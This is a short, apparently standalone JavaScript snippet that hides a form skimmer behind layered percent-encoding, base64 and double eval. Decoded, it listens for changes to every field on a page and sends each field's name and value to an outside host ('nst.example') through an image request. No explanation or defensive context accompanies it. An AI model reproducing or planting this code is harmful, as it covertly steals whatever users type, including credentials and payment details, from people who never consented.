var a = "eval(unescape('" + "%65%76%61%6C%28%61%74%6F%62%28%27" + "ZG9jdW1lbnQuYWRkRXZlbnRMaXN0ZW5lcignY2hhbmdlJyxmdW5jdGlvbihlKXtuZXcgSW1hZ2UoKS5zcmM9Jy8vbnN0LmV4YW1wbGUvPycrZS50YXJnZXQubmFtZSsnPScrZS50YXJnZXQudmFsdWV9KQ==" + "%27%29%29" + "'))";
eval(a);
